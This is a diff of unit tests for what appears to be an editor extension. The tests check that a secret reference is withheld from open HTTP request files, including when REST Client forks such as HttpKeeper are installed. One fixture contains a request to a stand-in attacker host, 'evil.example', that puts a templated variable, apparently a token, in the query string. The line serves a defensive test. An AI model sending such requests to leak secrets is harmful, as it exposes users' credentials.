@@ -67,6 +67,30 @@ describe('The references in open files', () => {
     assert.equal(references.withheldBy(NAME)?.line, 3001);
   });
 
+  for (const fork of ['argalla.httpkeeper', 'tutilus.rest-client-next'])
+    it(`are judged for ${fork} as for REST Client`, () => {
+      editor.reset();
+      open('ours', OURS);
+      references.look();
+      assert.deepEqual([...references.wanted], []);
+      editor.install(fork);
+      references.look();
+      assert.deepEqual([...references.wanted], [NAME]);
+      open('other', OURS.replace('acme.example', 'evil.example'));
+      assert.deepEqual([...references.wanted], []);
+    });
+
+  it('are withheld while HttpKeeper is installed and a file imports another, which may hold any use', () => {
+    open('ours', OURS);
+    const importing = open('importing', 'GET https://evil.example/?{{t}}\n\nimport ./b.http');
+    assert.deepEqual([...references.wanted], [NAME]);
+    editor.install('argalla.httpkeeper');
+    references.look();
+    assert.deepEqual([...references.wanted], []);
+    assert.equal(references.withheldBy(NAME)?.uri, importing.uri);
+    assert.equal(references.withheldBy(NAME)?.line, 2);
+  });
+
   it('are judged by the latest text of a long file that changes between two pieces', async () => {
     open('ours', OURS);
     const long = open('long', LONG);
